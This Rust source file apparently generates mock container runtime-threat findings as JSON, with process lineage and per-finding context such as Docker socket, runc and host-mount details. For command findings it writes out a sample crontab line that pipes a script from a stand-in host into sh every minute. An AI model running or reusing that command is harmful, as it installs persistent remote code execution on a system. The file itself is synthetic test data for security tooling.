//! `Service.RuntimeDetails`: the process and its lineage.

use super::super::json::Json;
use super::super::resource::uuid;
use super::super::scene::Scene;
use super::sight::Sight;

const ANCESTORS: [(&str, &str); 3] =
    [("sh", "/usr/bin/dash"), ("node", "/usr/local/bin/node"), ("containerd-shim", "/usr/bin/containerd-shim-runc-v2")];

/// `runtimeDetails`.
pub(crate) fn native(j: &mut Json, scene: &Scene<'_>, sight: &Sight) {
    let mut rng = scene.rng(30);
    let pid = i64::from(rng.between(300, 30_000));
    let started = scene.created() - 300_000;
    j.object_at("runtimeDetails", |j| {
        j.object_at("process", |j| {
            j.text("name", sight.process.0);
            j.text("executablePath", sight.process.1);
            j.plain(
                "executableSha256",
                format_args!("{:016x}{:016x}{:016x}{:016x}", rng.next(), rng.next(), rng.next(), rng.next()),
            );
            j.int("namespacePid", pid % 500);
            j.text("pwd", "/tmp");
            j.int("pid", pid);
            j.epoch("startTime", started);
            j.text("uuid", &uuid(rng.next(), 1));
            j.text("parentUuid", &uuid(rng.next(), 2));
            j.text("user", "root");
            j.int("userId", 0);
            j.int("euid", 0);
            j.array_at("lineage", |j| {
                for ((name, path), step) in ANCESTORS.iter().zip(1_i64..) {
                    j.object(|j| {
                        j.epoch("startTime", started - step * 60_000);
                        j.int("namespacePid", 1);
                        j.int("userId", 0);
                        j.text("name", name);
                        j.int("pid", pid - step * 7);
                        j.text("uuid", &uuid(rng.next(), 3));
                        j.text("executablePath", path);
                        j.int("euid", 0);
                        j.text("parentUuid", &uuid(rng.next(), 4));
                    });
                }
            });
        });
        j.object_at("context", |j| context(j, sight));
    });
}

fn context(j: &mut Json, sight: &Sight) {
    match sight.kind.name {
        name if name.contains("DockerSocket") => j.text("socketPath", "/var/run/docker.sock"),
        name if name.contains("Runc") => j.text("runcBinaryPath", "/usr/sbin/runc"),
        name if name.contains("HostDirectory") => {
            j.text("mountSource", "/");
            j.text("mountTarget", "/host");
            j.text("fileSystemType", "ext4");
        }
        name if name.contains("Tool") => {
            j.text("toolName", sight.process.0);
            j.text("toolCategory", "Network Scanner");
        }
        name if name.contains("Command") => {
            j.text("commandLineExample", "echo '* * * * * curl -s https://files.example.org/i.sh | sh' | crontab -");
        }
        _ => {
            j.text("addressFamily", "AF_INET");
            j.int("ianaProtocolNumber", 6);
        }
    }
}
